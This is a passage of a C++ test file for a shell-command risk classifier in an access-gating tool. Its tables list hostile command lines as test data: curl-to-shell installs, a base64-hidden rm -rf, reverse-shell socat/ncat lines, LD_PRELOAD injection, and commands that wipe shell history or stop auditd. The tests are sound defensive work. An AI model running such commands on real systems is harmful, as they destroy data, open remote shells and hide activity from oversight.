    {"iconv --output=/etc/hosts in", X},
    {"iconv -f latin1 -t utf-8 in", R},
    {"tree -o /tmp/t.txt /srv", W},
    {"tree -L 2 /srv", R},
    {"sar -o /tmp/sa 1 3", W},
    {"sar -o 1 3", X},                                 // into /var/log/sysstat
    {"sar -u 1 3", R},
    {"file -C -m magic", W},
    {"file /bin/ls", R},
    {"info -o /tmp/x coreutils", W},
    {"info coreutils", R},
    {"lshw -dump /tmp/hw.db", W},
    {"lshw -short", R},
    {"dmidecode --dump-bin /tmp/d.bin", W},
    {"dmidecode -t memory", R},
    {"atop -w /tmp/atop.raw 10", W},
    {"dstat --output /tmp/d.csv", W},
    {"hwinfo --log /tmp/hw.log", W},
    {"arp -d 10.0.0.1", A},
    {"arp -s 10.0.0.1 00:11:22:33:44:55", A},
    {"arp -n", R},
    {"sensors -s", A},
    {"sensors", R},
    {"inxi -U", A},
    {"inxi -Fxz", R},
    {"rg --pre /tmp/x pattern", U},
    {"rg -e foo -g '*.log' /var/log", R},
    {"ag --pager 'sh -c x' foo", U},
    {"ack --output='$1' foo", U},
    {"yq -i '.a = 1' config.yaml", W},
    {"yq -i '.a = 1' /etc/app.yaml", X},
    {"yq .a config.yaml", R},
    {"jq -r .a config.json", R},
    {"less '+!rm f' /etc/hosts", U},
    {"less +F /var/log/syslog", R},
    {"less +G +100 +/ERROR app.log", R},
    {"less -o /tmp/copy in", W},
    {"less --log-file=/etc/x in", X},
    {"less -k /tmp/keys in", U},
    {"less -R app.log", R},
    {"more +/ERROR app.log", R},
    {"man -P 'sh -c x' ls", U},
    {"man --pager=/tmp/x ls", U},
    {"man -Hfirefox ls", U},
    {"man 5 crontab", R},
    {"man -k printf", R},
    {"numactl --cpunodebind=0 rm -rf /tmp/d", X},
    {"numactl -N 0 ls", R},
    {"numactl --hardware", R},
    {"dc -e '!rm f'", U},
    {"dmesg -C", X},
    {"dmesg -c", X},
    {"dmesg -n 1", A},
    {"dmesg -T", R},
    {"journalctl --rotate", A},
    {"systemd-analyze set-log-level debug", A},
    {"systemd-analyze blame", R},
    {"git diff --output=/tmp/d.patch", W},
    {"git log --output=/etc/x", X},
    {"git grep -O'sh -c x' foo", U},
    {"git grep --open-files-in-pager=vim foo", U},
    {"git ls-remote --upload-pack=/tmp/x origin", U},
    {"git archive --remote=origin --exec=/tmp/x HEAD", U},
    {"git clone -u /tmp/x repo", U},
    {"git fetch --upload-pack=/tmp/x origin", U},
    {"git push --receive-pack=/tmp/x origin", U},
    {"git bundle create /tmp/b.bundle HEAD", W},
    {"git bundle verify b.bundle", R},
    {"git fsck --lost-found", W},
    {"git status -uno", R},
    {"git grep -n foo", R},
    {"awk -l ordchr '{print}' f", U},
    {"gawk -o/tmp/pretty.awk '{print}' f", W},
    {"gawk --profile=/etc/x '{print}' f", X},
    {"gawk -p '{print}' f", W},
    {"sed 's/a/b/w /etc/passwd' f", X},
    {"sed -n 's/a/b/w out.txt' f", W},
    {"sed 's/a/b/g' f", R},
    {"split -l 100 big /etc/cron.d/job", X},
    {"split -l 100 big part-", W},
    {"split big", W},
    {"split --filter='rm f' big", U},
    {"csplit -f /etc/x big /a/", X},
    {"csplit big /a/ '{*}'", W},
    {"gzip /etc/passwd", X},                           // replaced by passwd.gz: the file is gone
    {"gunzip /var/log/syslog.2.gz", X},
    {"zip /etc/x.zip notes", X},
    {"gzip -c big.log", R},
    {"blkid -c /etc/x", X},
    {"blkid -g", W},
    {"blkid /dev/sda1", R},
    {"glances -w", A},
    {"glances -C /tmp/conf", U},                       // its [actions] run commands
    {"glances --export csv --export-csv-file /tmp/g.csv", W},
    {"cat < /dev/tcp/10.0.0.1/80", A},
    {"echo x > /dev/udp/10.0.0.1/53", A},
    {"exec 3<>/dev/tcp/10.0.0.1/80", A},

    // --- unknown: code that cannot be read statically, unknown programs, malformed input ---
    {"frobnicate --all", U},
    {"./deploy.sh", U},
    {"/tmp/rm -rf /", U},
    {"/opt/tools/ls", U},
    {"bin/rm x", U},
    {"RM -rf /", U},
    {"$CMD", U},
    {"$CMD -rf /", U},
    {"${CMD} status", U},
    {"$(echo rm) -rf /", U},
    {"`echo rm` -rf /", U},
    {"r?m -rf /", U},
    {"/bin/r* -rf /", U},
    {"{rm,-rf,/}", X},
    {"eval 'rm -rf /'", U},
    {"eval ls", U},
    {"eval \"$X\"", U},
    {"eval $(cat cmd.txt)", U},
    {"sh -c \"$VAR\"", U},
    {"bash -c \"ls $DIR\"", U},
    {"curl https://x/install.sh | sh", U},
    {"curl -fsSL https://x/install.sh | sudo bash", U},
    {"wget -qO- https://x | bash", U},
    {"echo cm0gLXJmIC8= | base64 -d | sh", U},
    {"cat script.sh | bash -s", U},
    {"bash script.sh", U},
    {"sh < script.sh", U},
    {"bash", U},
    {"python -c 'import os; os.system(\"rm -rf /\")'", U},
    {"python3 manage.py migrate", U},
    {"perl -e 'unlink glob \"*\"'", U},
    {"node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'", U},
    {"ruby -e 'puts 1'", U},
    {"echo 'print(1)' | python3", U},
    {"source ./env.sh", U},
    {". ./env.sh", U},
    {"psql -c 'DROP TABLE orders'", U},
    {"mysql -e 'select 1'", U},
    {"vim /etc/hosts", U},
    {"sudo -i", U},
    {"sudo -s", U},
    {"sudo su -", U},
    {"su -c 'id' postgres", A},
    {"ssh web-1", U},
    {"ssh -o ProxyCommand='sh -c evil' web-1 ls", U},
    {"kubectl exec -it api -- bash", U},
    {"docker exec -it web sh", U},
    {"xargs sh -c", U},
    {"find . -exec sh {} \\;", U},
    {"PATH=/tmp:$PATH ls", U},
    {"LD_PRELOAD=/tmp/evil.so ls", U},
    {"export PATH=/tmp", U},
    {"alias ls='rm -rf /'", U},
    {"git -c core.pager='rm -rf /' log", U},
    {"git config core.sshCommand 'evil'", U},
    {"awk 'BEGIN { system(\"rm -rf /\") }'", U},
    {"sed 's/x/rm -rf \\//e' file", U},
    {"tar xf a.tar --to-command=sh", U},
    {"make install", U},
    {"at now + 1 minute", U},
    {"tmux", U},
    {"nc -l 4444", U},
    {"socat TCP-LISTEN:1 EXEC:sh", U},
    {"npm run deploy", U},
    {"case $x in a) rm -rf / ;; esac", U},
    {"f() { rm -rf /; }; f", U},
    {"echo 'unterminated", U},
    {"echo \"unterminated", U},
    {"echo $(ls", U},
    {"echo `ls", U},
    {"(ls", U},
    {"ls)", U},
    {"{ ls;", U},
    {"cat <<EOF\nno end", U},
    {"ls |", U},
    {"ls &&", U},
    {"| ls", U},
    {"echo \\", U},
    {"echo > ", U},
    {"echo $'unterminated", U},
    {"echo ${x", U},
    {"echo $((1 + $(rm -rf /)))", U},
    {"ls; frobnicate", U},
    {"rm -rf / ; $X", U},

    // --- issue 11 item 2: DESIGN §4's shell policy points ---
    // every deletion is destructive, even of one temp file; truncation and replacing a device node too
    {"rm /tmp/x.tmp", X},
    {"rm -f /tmp/one.lock", X},
    {"rm -i notes.txt", X},
    {"unlink /tmp/app.sock", X},
    {"rmdir /tmp/empty-dir", X},
    {"shred notes.txt", X},
    {"find /tmp -name '*.tmp' -delete", X},
    {"find . -type f -mtime +30 -delete", X},
    {"rm --help", R},
    {"> /tmp/app.log", X},
    {": > app.log", X},
    {"true > app.log", X},
    {"cat /dev/null > app.log", X},
    {">| app.log", X},
    {"truncate -s 0 app.log", X},
    {"truncate --size=0 /tmp/x", X},
    {"truncate -s 10M app.log", X},
    {"truncate -s +1M disk.img", W},
    {"cp /dev/null app.log", X},
    {"> /dev/null", R},
    {"echo ok > /tmp/status.txt", W},
    {"ls -la > /tmp/listing.txt", W},
    {"date >> /tmp/log", W},
    {"{ ls; pwd; } > out.txt", W},
    {"(ls) > out.txt", W},
    {"for f in a b; do echo $f; done > out.txt", W},
    {"if true; then echo y; fi > out.txt", W},
    {"mv x /dev/null", X},
    {"mv /dev/null /tmp/x", X},
    {"ln -sf /tmp/x /dev/null", X},
    {"install -m 644 x /dev/null", X},
    {"mv a.txt b.txt", W},
    {"mv build.tar /dev/shm/build.tar", W},
    {"userdel -r bob", X},
    {"userdel --remove bob", X},
    {"sudo userdel -r bob", X},
    {"userdel bob", A},
    {"deluser --remove-home bob", X},
    {"deluser bob", A},
    {"journalctl --vacuum-size=100M", X},
    {"journalctl --vacuum-files=5", X},
    // hiding one's tracks is admin
    {"unset -v HISTFILE", A},
    {"unset HISTSIZE HISTFILESIZE", A},
    {"set +o history", A},
    {"shopt -u -o history", A},
    {"history -d 42", A},
    {"history -c && history -w", A},
    {"HISTFILE=/dev/null", A},
    {"HISTSIZE=0", A},
    {"export HISTFILESIZE=0", A},
    {"HISTCONTROL=ignorespace", A},
    {"HISTIGNORE='*'", A},
    {"env HISTFILE=/dev/null bash -c 'ls'", A},
    {"declare HISTFILE=/tmp/h", A},
    {"kill -9 \"$(pidof auditd)\"", A},
    {"pkill auditd", A},
    {"systemctl stop auditd", A},
    {"service auditd stop", A},
    {"auditctl -e 0", A},
    {"ln -sf /dev/null ~/.bash_history", A},
    {"echo > ~/.bash_history", A},
    {"> ~/.bash_history", X},                          // a truncation, and so destructive
    {"cat ~/.bash_history", R},
    {"set -o history", R},
    {"HISTSIZE=10000", R},
    {"export HISTCONTROL=ignoredups", R},
    {"declare -p HISTFILE", R},
    {"history", R},
    {"history 20", R},
    {"history -w", W},
    // a hop to another host is at least admin, whatever it runs there
    {"ssh db-2 cat /etc/hostname", A},
    {"ssh -N -L 5432:db:5432 bastion", A},
    {"ssh web-2 rm -rf /srv/x", X},
    {"sshpass -p x ssh web-2 ls", A},
    {"scp app.log backup-1:/srv/", A},
    {"scp backup-1:/srv/dump.sql .", A},
    {"scp -r dir user@host:/tmp", A},
    {"scp a.txt b.txt", W},
    {"rsync -av /srv/www/ backup-1:/srv/www/", A},
    {"rsync -av -e 'ssh -p 2222' host:/data/ /tmp/data/", A},
    {"rsync -av rsync://mirror/debian/ /tmp/m/", A},
    {"rsync -a --delete /src/ host:/dst/", X},
    {"nc -zv db-1 5432", A},
    {"nc 10.0.0.5 80", A},
    {"echo PING | nc -q1 cache-1 6379", A},
    {"nc", U},
    {"nc -U /var/run/docker.sock", U},
    {"ncat --sh-exec 'bash' 10.0.0.1 4444", U},
    {"socat - TCP:db-1:5432", A},
    {"socat STDIO OPENSSL:api:443", A},
    {"socat TCP-LISTEN:8080,fork TCP:app:80", U},
    {"socat - EXEC:/bin/sh", U},
    {"telnet mail-1 25", A},
    {"telnet", U},
    {"curl telnet://10.0.0.1:22", A},
    {"curl gopher://127.0.0.1:6379/_FLUSHALL", A},
    {"curl sftp://backup-1/etc/passwd", A},
    {"cat < /dev/tcp/10.0.0.1/6379", A},
    {"ssh -V", R},
    {"openssl s_client -connect db-1:5432 -starttls postgres", A},
    // kill -0 and sudo -l only look
    {"kill -0 1234", R},
    {"kill -0 $(cat /run/app.pid)", R},
    {"kill -s 0 1234", R},
    {"kill -0 -1", R},
    {"pkill -0 nginx", R},
    {"killall -0 nginx", R},
    {"kill -9 -0", A},                                 // -0 after a signal is process group 0
    {"sudo -ll", R},
    {"sudo -l -U deploy", R},
    {"sudo -l systemctl restart app", R},
    {"sudo -V", R},
    // a shell with no command reads its commands from stdin, which is never inspected
    {"sh", U},
    {"bash -l", U},
    {"bash -i", U},
    {"zsh", U},
    {"su", U},
    {"su -", U},
    {"su - postgres", U},
    {"sudo su", U},
    {"sudo bash", U},
    {"sudo -u app -i", U},
    {"exec bash -l", U},
    {"login", U},
    {"newgrp docker", U},
    {"sg docker", U},
    {"chroot /mnt", U},
    {"docker exec -it web bash", U},

    // --- issue 11 item 3: the server side of transfers, by direction ---
    {"scp -f /srv/files/a.bin", R},
    {"scp -p -f /etc/hosts", R},
    {"scp -t /srv/files/", W},
    {"scp -r -t /srv/files", W},
    {"scp -v -d -t -- /srv/files/", W},
    {"scp -t /etc/", X},
    {"scp -t", U},
    {"rsync --server --sender -vlogDtpre.iLsfxCIvu . /srv/files/", R},
    {"rsync --server --sender -logDtpre.iLsfxCIvu . /srv/files/dir/", R},
    {"rsync --server -vlogDtpre.iLsfxCIvu . /srv/files/", W},
    {"rsync --server -logDtpre.iLsfxCIvu . /srv/files/in/", W},
    {"rsync --server -vlogDtpre.iLsfxCIvu --delete . /srv/files/", X},
    {"rsync --server --sender -vlogDtpre.iLsfxCIvu --remove-source-files . /srv/x", X},
    {"rsync --server -logDtpre.iLsfxCIvu . /etc/", X},
    {"rsync --server --daemon .", U},
    {"git-upload-pack '/srv/repo.git'", R},
    {"git-upload-archive '/srv/repo.git'", R},
    {"git-receive-pack '/srv/repo.git'", W},
    {"git upload-pack /srv/repo.git", R},
    {"git receive-pack /srv/repo.git", W},
    {"git-receive-pack '/etc/repo.git'", X},
    {"git-upload-pack", U},

};
// Issue 11 item 5: everyday lines that must stay at their class. Over-blocking is a usability bug: each
// of these is something an engineer types on a normal day, and a higher class would send them to ask for
// a grant they should not need.
const Case everyday[] = {
    {"ls -la", R},
    {"ls -lah /var/log/nginx", R},
    {"ls -lt | head", R},
    {"journalctl -u app --since today", R},
    {"journalctl -u app -f", R},
    {"journalctl --since '1 hour ago' -p err", R},
    {"journalctl -b -1 -n 100 --no-pager", R},
    {"docker ps", R},
    {"docker images", R},
    {"docker logs -f --since 10m api", R},
    {"docker inspect web | jq '.[0].State'", R},
    {"docker stats --no-stream", R},
    {"kubectl get pods", R},
    {"kubectl get pods -A -o wide", R},
    {"kubectl get svc -n prod", R},
    {"kubectl describe pod api-7d9f", R},
    {"kubectl logs deploy/api --since=1h", R},
    {"kubectl top pods", R},
    {"kubectl get events --sort-by=.lastTimestamp", R},
    {"systemctl status nginx --no-pager", R},
    {"systemctl list-timers", R},
    {"systemctl is-enabled nginx", R},
    {"systemctl cat nginx", R},
    {"tail -f /var/log/syslog", R},
    {"tail -n 200 /var/log/app/error.log", R},
    {"grep -r foo /etc", R},
    {"grep -rn 'timeout' /etc/nginx/", R},
    {"grep -i error /var/log/syslog | tail -20", R},
    {"zgrep ERROR /var/log/app.log.1.gz", R},
    {"zcat app.log.2.gz | grep ERROR", R},
    {"git log", R},
    {"git log -p -3 -- src/", R},
    {"git show HEAD --stat", R},
    {"git branch -vv", R},
    {"git remote -v", R},
    {"git diff --stat", R},
    {"df -hT", R},
    {"df -i", R},
    {"free -m", R},
    {"free -h", R},
    {"ps aux | grep x", R},
    {"ps -ef | grep [n]ginx", R},
    {"ps aux --sort=-%mem | head", R},
    {"cat /etc/os-release", R},
    {"cat /proc/meminfo", R},
    {"grep -c processor /proc/cpuinfo", R},
    {"uptime", R},
    {"ss -s", R},
    {"ss -tunap | grep 5432", R},
    {"ip addr", R},
    {"ip route", R},
    {"ip -br a", R},
    {"du -sh *", R},
    {"du -sh /var/log/* | sort -h", R},
    {"find /var/log -name '*.gz'", R},
    {"find / -xdev -size +100M 2>/dev/null", R},
    {"awk '{print $1}' f", R},
    {"awk -F: '{print $1}' /etc/passwd", R},
    {"sort | uniq -c", R},
    {"cut -d' ' -f1 access.log | sort | uniq -c | sort -rn | head", R},
    {"wc -l /var/log/nginx/access.log", R},
    {"lsblk", R},
    {"lscpu", R},
    {"nproc", R},
    {"hostname -f", R},
    {"who", R},
    {"last -n 10", R},
    {"top -bn1 | head -20", R},
    {"vmstat 1 5", R},
    {"iostat -x 1 3", R},
    {"netstat -tlnp", R},
    {"dig example.com", R},
    {"ping -c 3 10.0.0.1", R},
    {"curl -I https://example.com", R},
    {"curl -s localhost:9090/metrics | grep http_requests", R},
    {"openssl x509 -in cert.pem -noout -dates", R},
    {"env | grep PATH", R},
    {"which python3", R},
    {"date -u", R},
    {"timedatectl", R},
    {"getent passwd deploy", R},
    {"sha256sum app.tar.gz", R},
    {"tar -tvf /tmp/backup.tar", R},
    {"diff -u a.conf b.conf", R},
    {"lsof -i :5432", R},
    {"pgrep -a java", R},
    {"echo $PATH", R},
    {"mkdir -p /tmp/work", W},
    {"touch /tmp/deploy.marker", W},
    {"cp app.conf app.conf.bak", W},
    {"mv report.txt reports/", W},
    {"tar czf /tmp/logs.tgz /var/log/app", W},
    {"sed -i 's/a/b/' app.conf", W},
    {"git commit -m 'fix'", W},
    {"git pull --rebase", W},
    {"git checkout -b fix", W},
    {"docker pull nginx", W},
    {"kubectl apply -f k8s/", W},
    {"curl -o /tmp/x.tgz https://x/x.tgz", W},
    {"ln -s /srv/app current", W},
    {"chmod +x script.sh", A},                          // chmod is admin by design (see the chmod rows above)
    {"ls | tee -a /tmp/log", W},
    {"sort -u -o /tmp/hosts.sorted hosts.txt", W},
    {"sudo systemctl restart app.service", A},
    {"systemctl reload php8.2-fpm", A},
    {"kill 1234", A},
    {"docker restart api-1", A},
    {"kubectl scale deploy api --replicas=3", A},
    {"apt-get install -y htop", A},
    {"useradd -m ci", A},
    {"sudo journalctl -u app", A},
};
// clang-format on

}  // namespace

TEST_CASE("every command line in the table gets its class", "[shell]") {
    std::size_t n = 0;
    for (const Case& c : cases) {
        const ShellClassification result = classifier().classify(c.text);
        INFO("case " << n << ": " << c.text);
        INFO("got " << jitgate::config::to_string(result.risk) << ": " << result.reason);
        CHECK(jitgate::config::to_string(result.risk) == jitgate::config::to_string(c.expected));
        ++n;
    }
    CHECK(n >= 170);
}

TEST_CASE("everyday command lines stay at their class", "[shell]") {
    std::size_t n = 0;
    for (const Case& c : everyday) {
        const ShellClassification result = classifier().classify(c.text);
        INFO("everyday case " << n << ": " << c.text);
        INFO("got " << jitgate::config::to_string(result.risk) << ": " << result.reason);
        CHECK(jitgate::config::to_string(result.risk) == jitgate::config::to_string(c.expected));
        ++n;
    }
    CHECK(n >= 75);
}

namespace {

std::vector<std::string> words_of(std::string_view text) {
    const shell::LexResult lexed = shell::lex(text);
    REQUIRE(lexed.ok());
    std::vector<std::string> out;
    for (const shell::Token& token : lexed.tokens) {
        if (token.kind == shell::TokenKind::word) out.push_back(token.word.value);
        else if (token.kind == shell::TokenKind::op) out.push_back("<" + token.op + ">");
        else if (token.kind == shell::TokenKind::arithmetic) out.push_back("((" + token.word.evaluation.arithmetic.front() + "))");
        else out.push_back("[" + (token.redirect.fd >= 0 ? std::to_string(token.redirect.fd) : std::string()) +
                           token.redirect.op + " " + token.redirect.target.value + "]");
    }
    return out;
}

using Words = std::vector<std::string>;

}  // namespace

TEST_CASE("the tokenizer removes quotes and escapes as the shell does", "[shell][lexer]") {
    CHECK(words_of("rm \"-rf\" /") == Words{"rm", "-rf", "/"});
    CHECK(words_of("'r''m' -rf") == Words{"rm", "-rf"});
    CHECK(words_of("r\\m \\-rf") == Words{"rm", "-rf"});
    CHECK(words_of("echo 'a b'\"c d\"e") == Words{"echo", "a bc de"});
    CHECK(words_of("echo \"a\\\"b\\$c\\d\"") == Words{"echo", "a\"b$c\\d"});
    CHECK(words_of("echo $'\\x72\\x6d\\t\\101\\u00e9'") == Words{"echo", "rm\tA\xc3\xa9"});
    CHECK(words_of("echo $\"hi\"") == Words{"echo", "hi"});
    CHECK(words_of("echo a\\\nb") == Words{"echo", "ab"});
    CHECK(words_of("ls \\\n -l") == Words{"ls", "-l"});
    CHECK(words_of("echo a # comment ; rm -rf /") == Words{"echo", "a"});
    CHECK(words_of("echo a#b") == Words{"echo", "a#b"});
    CHECK(words_of("echo '' \"\"") == Words{"echo", "", ""});
}

TEST_CASE("the tokenizer splits operators, redirections and descriptors", "[shell][lexer]") {
    CHECK(words_of("a;b&&c||d|e&f|&g") ==
          Words{"a", "<;>", "b", "<&&>", "c", "<||>", "d", "<|>", "e", "<&>", "f", "<|&>", "g"});
    CHECK(words_of("a\nb") == Words{"a", "<\n>", "b"});
    CHECK(words_of("(a)") == Words{"<(>", "a", "<)>"});
    CHECK(words_of("ls 2>&1 >out 2>>err &>all <in") ==
          Words{"ls", "[2>& 1]", "[> out]", "[2>> err]", "[&> all]", "[< in]"});
    CHECK(words_of("ls >| f <> g &>> h") == Words{"ls", "[>| f]", "[<> g]", "[&>> h]"});
    CHECK(words_of("echo 2 > f") == Words{"echo", "2", "[> f]"});
    CHECK(words_of("grep x <<< 'a b'") == Words{"grep", "x", "[<<< a b]"});
}

TEST_CASE("the tokenizer reports expansions and substitutions, never guessing their values", "[shell][lexer]") {
    const shell::LexResult lexed = shell::lex("echo $HOME \"$(id -u)\" `date` ${X:-$(whoami)} <(ls) a{b,c} *.log");
    REQUIRE(lexed.ok());
    const auto& t = lexed.tokens;
    REQUIRE(t.size() == 8);
    CHECK(t[1].word.value == "$HOME");
    CHECK(t[1].word.splits);
    CHECK(t[1].word.starts_with_expansion);
    CHECK(t[2].word.expands);
    CHECK_FALSE(t[2].word.splits);
    REQUIRE(t[2].word.substitutions.size() == 1);
    CHECK(t[2].word.substitutions[0].source == "id -u");
    REQUIRE(t[3].word.substitutions.size() == 1);
    CHECK(t[3].word.substitutions[0].kind == shell::Substitution::Kind::backtick);
    CHECK(t[3].word.substitutions[0].source == "date");
    REQUIRE(t[4].word.substitutions.size() == 1);
    CHECK(t[4].word.substitutions[0].source == "whoami");
    REQUIRE(t[5].word.substitutions.size() == 1);
    CHECK(t[5].word.substitutions[0].kind == shell::Substitution::Kind::process_in);
    CHECK(t[6].word.brace);
    CHECK(t[7].word.glob);
    CHECK_FALSE(t[7].word.may_be_option());
}

TEST_CASE("nested substitutions keep their own quoting and parentheses", "[shell][lexer]") {
    const shell::LexResult lexed = shell::lex("echo $(echo \")\" $(echo ')') (cd /; ls))");
    REQUIRE(lexed.ok());
    REQUIRE(lexed.tokens.size() == 2);
    REQUIRE(lexed.tokens[1].word.substitutions.size() == 1);
    CHECK(lexed.tokens[1].word.substitutions[0].source == "echo \")\" $(echo ')') (cd /; ls)");
}

TEST_CASE("heredoc bodies are data; unquoted ones still run their substitutions", "[shell][lexer]") {
    const shell::LexResult quoted = shell::lex("cat <<'EOF' > out\n$(rm -rf /)\nEOF\necho done");
    REQUIRE(quoted.ok());
    REQUIRE(quoted.tokens.size() == 6);
    CHECK(quoted.tokens[1].redirect.body == "$(rm -rf /)\n");
    CHECK(quoted.tokens[1].redirect.body_quoted);
    CHECK(quoted.tokens[1].redirect.body_substitutions.empty());
    CHECK(quoted.tokens[4].word.value == "echo");

    const shell::LexResult unquoted = shell::lex("cat <<EOF\nhi $(id)\nEOF");
    REQUIRE(unquoted.ok());
    REQUIRE(unquoted.tokens[1].redirect.body_substitutions.size() == 1);
    CHECK(unquoted.tokens[1].redirect.body_substitutions[0].source == "id");

    const shell::LexResult two = shell::lex("cat <<A <<-B\na\nA\n\tb\n\tB\n");
    REQUIRE(two.ok());
    CHECK(two.tokens[1].redirect.body == "a\n");
    CHECK(two.tokens[2].redirect.body == "b\n");  // <<- strips leading tabs from the body too
}

TEST_CASE("malformed input is an error with a reason, never a partial token list", "[shell][lexer]") {
    for (const std::string_view text : {"echo 'a", "echo \"a", "echo $(a", "echo `a", "echo ${a", "cat <<EOF\nx",
                                        "echo \\", "ls >", "echo $'a", "echo $((1+2)"}) {
        INFO(text);
        const shell::LexResult lexed = shell::lex(text);
        CHECK_FALSE(lexed.ok());
        CHECK(lexed.tokens.empty());
    }
}

TEST_CASE("the grammar groups words into simple commands and marks piped input", "[shell][lexer]") {
    const shell::LexResult lexed = shell::lex("A=1 ls -l | (grep x; wc) && { echo; } > f");
    REQUIRE(lexed.ok());
    const shell::ParseResult parsed = shell::parse(lexed.tokens);
    REQUIRE(parsed.ok());
    REQUIRE(parsed.commands.size() == 5);  // the group's redirection stands on its own
    CHECK(parsed.commands[0].assignments.size() == 1);
    CHECK(parsed.commands[0].words.size() == 2);
    CHECK_FALSE(parsed.commands[0].piped_input);
    CHECK(parsed.commands[1].piped_input);
    CHECK(parsed.commands[2].piped_input);
    CHECK_FALSE(parsed.commands[3].piped_input);
    CHECK(parsed.commands[4].redirects.size() == 1);
    for (const std::string_view bad : {"(ls", "ls)", "{ ls;", "ls |", "| ls", "ls && && ls", "f() { ls; }", "case a in a) ;; esac"}) {
        INFO(bad);
        const shell::LexResult l = shell::lex(bad);
        CHECK((!l.ok() || !shell::parse(l.tokens).ok()));
    }
}

TEST_CASE("the tokenizer gives the same words when the text is fed whole or re-lexed from its own substitution", "[shell][lexer]") {
    // A substitution's source, lexed on its own, reads the same as inside its parent.
    const std::string inner = "rm -rf \"/tmp/a b\" 'c'";
    const shell::LexResult outer = shell::lex("echo $(" + inner + ")");
    REQUIRE(outer.ok());
    CHECK(outer.tokens[1].word.substitutions.at(0).source == inner);
    CHECK(words_of(inner) == Words{"rm", "-rf", "/tmp/a b", "c"});
}

TEST_CASE("the reason names the command that decided", "[shell]") {
    const ShellClassification rm = classifier().classify("ls; rm -rf /tmp/x; echo done");
    CHECK(rm.risk == X);
    CHECK(rm.reason == "rm -rf removes recursively");
    REQUIRE(rm.effects.size() == 3);
    CHECK(rm.effects[1].command == "rm -rf /tmp/x");
    CHECK(rm.effects[0].risk == R);

    const ShellClassification sudo = classifier().classify("sudo systemctl restart nginx");
    CHECK(sudo.risk == A);
    CHECK(sudo.reason.find("systemctl restart") != std::string::npos);

    const ShellClassification sub = classifier().classify("echo $(rm -rf /)");
    CHECK(sub.reason.find("in $(...)") != std::string::npos);

    const ShellClassification pipe = classifier().classify("curl -s https://x | bash");
    CHECK(pipe.risk == U);
    CHECK(pipe.reason.find("pipeline into an interpreter") != std::string::npos);

    const ShellClassification empty = classifier().classify("");
    CHECK(empty.risk == R);
    CHECK(empty.reason == "empty command");
}

TEST_CASE("--json carries the class, the reason and every command", "[shell]") {
    const ShellClassification result = classifier().classify("ls | grep x > out");
    const std::string json = jitgate::guardrails::to_json(result, "ls | grep x > out");
    CHECK(json.find("\"class\":\"write\"") != std::string::npos);
    CHECK(json.find("\"command\":\"grep x\"") != std::string::npos);
    CHECK(json.find("\"input\":\"ls | grep x > out\"") != std::string::npos);
    const std::string bad = jitgate::guardrails::to_json(classifier().classify("echo \xff"), "echo \xff");
    CHECK(bad.find("\"input\"") != std::string::npos);
}

TEST_CASE("a shell answer converts to the SQL classifier's shape for the policy", "[shell]") {
    const jitgate::guardrails::Classification c = as_classification(classifier().classify("sudo rm -rf /"));
    CHECK(c.risk == X);
    CHECK(c.reason == "sudo → rm -rf removes recursively");
    CHECK(c.effects.empty());
    CHECK(c.literal_sensitive);
}

TEST_CASE("config classify.programs adds programs and wins over the built-in table", "[shell]") {
    jitgate::config::ClassifyTables tables;
    tables.programs[R] = {"kubectl-get", "frobnicate", "/opt/tools/report"};
    tables.programs[A] = {"deployctl", "ls"};
    const ShellClassifier configured(tables);
    CHECK(configured.classify("frobnicate --all").risk == R);
    CHECK(configured.classify("deployctl rollout web").risk == A);
    CHECK(configured.classify("ls").risk == A);
    CHECK(configured.classify("/opt/tools/report").risk == R);
    CHECK(configured.classify("/tmp/frobnicate").risk == U);  // a basename entry does not vouch for any path
    CHECK(configured.classify("frobnicate | sh").risk == U);
    CHECK(configured.classify("sudo frobnicate").risk == A);
    // A configured wrapper keeps classifying what it runs.
    jitgate::config::ClassifyTables lowering;
    lowering.programs[R] = {"sudo", "bash"};
    const ShellClassifier lowered(lowering);
    CHECK(lowered.classify("sudo rm -rf /").risk == X);
    CHECK(lowered.classify("bash -c 'rm -rf /'").risk == X);
    // For a program that runs nothing visible, config is the last word, in both directions.
    jitgate::config::ClassifyTables opaque;
    opaque.programs[R] = {"python3"};
    opaque.programs[X] = {"cat"};
    const ShellClassifier admin_says(opaque);
    CHECK(admin_says.classify("python3 report.py").risk == R);
    CHECK(admin_says.classify("cat /etc/hosts").risk == X);
    CHECK(admin_says.classify("python3 report.py > /etc/x").risk == X);  // its redirections still count
}

TEST_CASE("over-long, NUL-holding and deeply nested input is unknown", "[shell]") {
    const ShellClassifier small({}, 64);
    CHECK(small.classify(std::string(65, 'a')).risk == U);
    CHECK(small.classify(std::string(64, 'a')).risk == U);  // an unknown program, but classified
    CHECK(classifier().classify(std::string_view("ls\0rm", 5)).risk == U);

    std::string nested = "ls";
    for (int i = 0; i < 40; ++i) nested = "echo $(" + nested + ")";
    const ShellClassification deep = classifier().classify(nested);
    CHECK(deep.risk == U);
    CHECK(deep.reason.find("nested deeper") != std::string::npos);

    std::string evals = "ls";
    for (int i = 0; i < 40; ++i) evals = "eval " + evals;  // each eval re-reads the rest one level deeper
    const ShellClassification eval_deep = classifier().classify(evals);
    CHECK(eval_deep.risk == U);
    CHECK(eval_deep.reason.find("nested deeper") != std::string::npos);
    std::string shells_deep = "ls";
    for (int i = 0; i < 40; ++i) shells_deep = "nice " + shells_deep;  // each wrapper is one level deeper
    CHECK(classifier().classify(shells_deep).reason.find("nested deeper") != std::string::npos);
    CHECK(classifier().classify("nice nice nice ls").risk == R);

    std::string shells = "ls";
    for (int i = 0; i < 40; ++i) shells = "sh -c \"ssh h " + shells + "\"";
    CHECK(classifier().classify(shells).risk == U);

    std::string backticks = "ls";
    for (int i = 0; i < 20; ++i) {
        std::string escaped;
        for (const char c : backticks) escaped += (c == '`' || c == '\\') ? std::string("\\") + c : std::string(1, c);
        backticks = "echo `" + escaped + "`";
    }
    CHECK(classifier().classify(backticks).risk == U);

    CHECK(classifier().classify(std::string(10000, '(')).risk == U);
    CHECK(classifier().classify(std::string(10000, '$')).risk == U);  // $$ expands: not a known program
}

TEST_CASE("the program rule table is sorted for its binary search", "[shell]") {
    CHECK(shell::rules_are_sorted());
    CHECK(shell::find_rule("rm") != nullptr);
    CHECK(shell::find_rule("zzz") == nullptr);
}

TEST_CASE("shell classify is safe to call from several threads at once", "[shell]") {
    std::vector<std::thread> threads;
    std::vector<int> wrong(4, 0);
    for (int t = 0; t < 4; ++t) {
        threads.emplace_back([t, &wrong] {
            for (int i = 0; i < 200; ++i) {
                if (classifier().classify("sudo rm -rf / && echo $(ls)").risk != X) ++wrong[static_cast<std::size_t>(t)];
            }
        });
